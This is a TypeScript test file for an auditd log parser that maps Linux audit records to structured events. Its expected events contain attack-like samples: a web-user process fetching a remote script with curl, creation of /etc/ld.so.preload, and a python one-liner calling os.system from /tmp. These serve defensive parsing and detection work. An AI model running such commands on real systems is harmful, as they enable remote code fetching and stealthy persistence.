import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { categorize } from '../../../src/parsers/auditd/categorize';
import { decodeSockaddr } from '../../../src/parsers/auditd/sockaddr';
import { archName, syscallName } from '../../../src/parsers/auditd/syscalls';
import type { AuditRecord } from '../../../src/parsers/auditd';
import { AuditAssembler, auditEvent, readAuditLine } from '../../../src/parsers/auditd';
import type { ParsedEvent } from '../../../src/parse/types';

const source = { timeZone: 'Asia/Ho_Chi_Minh', receivedAt: Date.parse('2026-11-24T01:00:00.000Z') };

function events(name: string): ParsedEvent[] {
  const assembler = new AuditAssembler();
  const lines = readFileSync(join(__dirname, 'fixtures', name), 'utf8').split('\n');
  return [...lines.flatMap((l) => assembler.push(l, source)), ...assembler.end()].map((o) => {
    if (!o.ok) throw new Error(o.failure.message);
    return o.event;
  });
}

const log = (e: ParsedEvent) => (e['auditd'] as { log: Record<string, unknown> }).log;
const records = (...lines: string[]): AuditRecord[] => lines.map((l) => readAuditLine(l)!);

describe('auditEvent', () => {
  it('maps the dataset execve group like the auditd module, every field kept under auditd.log', () => {
    const [e] = events('sh-binary-padding-dd.log');
    expect(e).toEqual({
      '@timestamp': '2020-11-10T08:19:44.965Z',
      event: { kind: 'event', module: 'auditd', dataset: 'auditd.log', action: 'execve', outcome: 'success', category: ['process'], type: ['start'] },
      message: 'dd if=/dev/zero bs=1 count=1',
      host: { architecture: 'x86_64', os: { type: 'linux' } },
      process: {
        pid: 2168,
        ppid: 29002,
        parent: { pid: 29002 },
        executable: '/bin/dd',
        name: 'dd',
        working_directory: '/home/wardog',
        args: ['dd', 'if=/dev/zero', 'bs=1', 'count=1'],
        args_count: 4,
        command_line: 'dd if=/dev/zero bs=1 count=1',
        title: 'dd if=/dev/zero bs=1 count=1',
      },
      user: { id: '1000', audit: { id: '1000' }, effective: { id: '1000' }, group: { id: '1000' } },
      auditd: { log: expect.any(Object) },
    });
    expect(log(e!)).toMatchObject({
      record_type: ['SYSCALL', 'EXECVE', 'CWD', 'PATH', 'PROCTITLE'],
      sequence: 93777,
      SYSCALL: 'execve',
      syscall: '59',
      euid: '1000',
      exe: '/bin/dd',
      // SYSCALL's registers and EXECVE's arguments share their names: both are kept.
      a0: ['558e25052c70', 'dd'],
      a1: ['558e251641a0', 'if=/dev/zero'],
      name: ['/bin/dd', '/lib64/ld-linux-x86-64.so.2'],
      cwd: '/home/wardog',
      proctitle: 'dd if=/dev/zero bs=1 count=1',
    });
  });

  it('maps an ENRICHED connect: names, destination from SOCKADDR, node as host', () => {
    const [connect] = events('enriched.log');
    expect(connect).toMatchObject({
      '@timestamp': '2024-11-24T00:00:00.123Z',
      event: { action: 'connect', outcome: 'failure', category: ['network'], type: ['connection'] },
      host: { name: 'web-01', architecture: 'x86_64', os: { type: 'linux' } },
      process: { executable: '/usr/bin/curl', name: 'curl', title: 'curl -s http://198.51.100.7/x.sh' },
      user: { id: '33', name: 'www-data', audit: { id: '1000', name: 'hue-admin' }, effective: { id: '33', name: 'www-data' } },
      destination: { ip: '198.51.100.7', port: 80, address: '198.51.100.7' },
    });
    expect(log(connect!)).toMatchObject({ UID: 'www-data', SADDR: 'saddr_fam=inet laddr=198.51.100.7 lport=80', key: 'egress' });
  });

  it('maps a file creation: the created PATH, made absolute from CWD', () => {
    const [, create] = events('enriched.log');
    expect(create).toMatchObject({ event: { action: 'openat', category: ['file'], type: ['creation'] }, file: { path: '/etc/ld.so.preload' }, process: { working_directory: '/etc' } });
    expect(log(create!)['nametype']).toEqual(['PARENT', 'CREATE']);
  });

  it('maps an execve whose argument and directory are hex', () => {
    const [, , exec] = events('enriched.log');
    expect(exec).toMatchObject({
      event: { action: 'execve', category: ['process'], type: ['start'] },
      process: { args: ['python3', '-c', 'import os; os.system("id")'], args_count: 3, working_directory: '/tmp/my dir', executable: '/usr/bin/python3.11' },
    });
    expect(exec!['file']).toBeUndefined();
  });

  it('maps a user-space login: the account, the remote address, the outcome', () => {
    const login = events('enriched.log')[3]!;
    expect(login).toMatchObject({ event: { action: 'user_login', outcome: 'failure', category: ['authentication', 'session'], type: ['start'] }, user: { name: 'root' }, source: { ip: '203.0.113.50' }, process: { pid: 2200, executable: '/usr/sbin/sshd' } });
    // auid 4294967295 and AUID="unset" mean no login user.
    expect((login['user'] as Record<string, unknown>)['audit']).toBeUndefined();
  });

  it('maps the user-space and odd records of Filebeat’s samples', () => {
    const [charon, sudo, title, boot, , interpreted, hexArg, group, acct, chauthtok] = events('filebeat-samples.log');
    expect(charon).toMatchObject({ event: { action: 'sendto' }, process: { executable: '/usr/libexec/strongswan/charon (deleted)' } });
    expect(sudo).toMatchObject({ event: { action: 'user_cmd', outcome: 'success' }, process: { command_line: '/usr/lib64/nagios/plugins/check_asterisk_sip_peers -p 202', working_directory: '/' } });
    expect(title).toMatchObject({ event: { action: 'proctitle' }, process: { title: 'sshd: burn [priv]' } });
    expect(boot).toMatchObject({ event: { action: 'system_boot', category: ['host'], type: ['start'] } });
    expect(interpreted).toMatchObject({ event: { action: 'execve', category: ['process'] }, user: { name: 'vagrant' }, host: { architecture: 'x86_64' } });
    expect(hexArg).toMatchObject({ process: { args: ['sh', '-c', 'echo \\"arg hex encoded\\"'] } });
    expect(group).toMatchObject({ event: { category: ['iam'], type: ['group', 'creation'] }, process: { executable: '/usr/sbin/groupadd' } });
    expect(log(group!)['op']).toBe('adding group to /etc/group');
    expect(acct).toMatchObject({ event: { category: ['authentication'] } });
    expect(chauthtok).toMatchObject({ user: { name: 'charlie' }, event: { category: ['iam'], type: ['user', 'change'] } });
  });

  it('an event of an EOE alone (its group emitted before) still has a record type', () => {
    const e = auditEvent(records('type=EOE msg=audit(1.000:3): '));
    expect(log(e)).toEqual({ record_type: 'EOE', sequence: 3 });
  });

  it('reads names of Object.prototype as unknown names, not as table entries', () => {
    const syscall = auditEvent(records('type=SYSCALL msg=audit(1.000:3): arch=toString syscall=constructor'));
    expect(syscall).toMatchObject({ event: { action: 'constructor' }, host: { architecture: 'toString' } });
    expect(syscall['event']).not.toHaveProperty('category');
    const record = auditEvent(records('type=constructor msg=audit(1.000:4): pid=1'));
    expect(record).toMatchObject({ event: { action: 'constructor' }, auditd: { log: { record_type: 'constructor' } } });
    expect(record['event']).not.toHaveProperty('category');
  });

  it('keeps keys that look like prototype names as plain data', () => {
    const e = auditEvent(records('type=USER msg=audit(1.000:3): __proto__=x constructor=y'));
    expect(Object.getPrototypeOf(log(e))).toBe(Object.prototype);
    expect(Object.keys(log(e))).toEqual(['__proto__', 'constructor', 'record_type', 'sequence']);
  });
});

describe('syscall names, categories and socket addresses', () => {
  it('names syscalls of x86_64 and arm64, passes names through, and leaves unknown numbers', () => {
    expect(archName('c000003e')).toBe('x86_64');
    expect(syscallName('c000003e', '59')).toBe('execve');
    expect(syscallName('c00000b7', '221')).toBe('execve');
    expect(syscallName('c000003e', '9999')).toBeUndefined();
    expect(syscallName('40000003', '11')).toBeUndefined();
    expect(syscallName('x86_64', 'execve')).toBe('execve');
  });

  it('only execve is a process start; opens are creations only with a CREATE path', () => {
    expect(categorize('execveat', ['SYSCALL'], [])).toEqual({ category: ['process'], type: ['start'] });
    expect(categorize('openat', ['SYSCALL', 'PATH'], ['PARENT', 'CREATE'])).toEqual({ category: ['file'], type: ['creation'] });
    expect(categorize('openat', ['SYSCALL', 'PATH'], ['NORMAL'])).toEqual({ category: ['file'], type: ['access'] });
    expect(categorize('unlinkat', ['SYSCALL'], ['DELETE'])).toEqual({ category: ['file'], type: ['deletion'] });
    expect(categorize(undefined, ['ADD_USER'], [])).toEqual({ category: ['iam'], type: ['user', 'creation'] });
    expect(categorize('memfd_create', ['SYSCALL'], [])).toBeUndefined();
  });

  it('decodes inet and inet6 socket addresses and ignores others', () => {
    expect(decodeSockaddr('02000035C0A80001' + '0'.repeat(16))).toEqual({ ip: '192.168.0.1', port: 53 });
    expect(decodeSockaddr('0A0001BB00000000' + '20010DB8000000000000000000000001' + '00000000')).toEqual({ ip: '2001:db8::1', port: 443 });
    expect(decodeSockaddr('0A0001BB00000000' + '00000000000000000000FFFFC0A80001' + '00000000')).toEqual({ ip: '::ffff:192.168.0.1', port: 443 });
    expect(decodeSockaddr('01002F746D702F736F636B00')).toBeUndefined();
    expect(decodeSockaddr('zz')).toBeUndefined();
  });
});
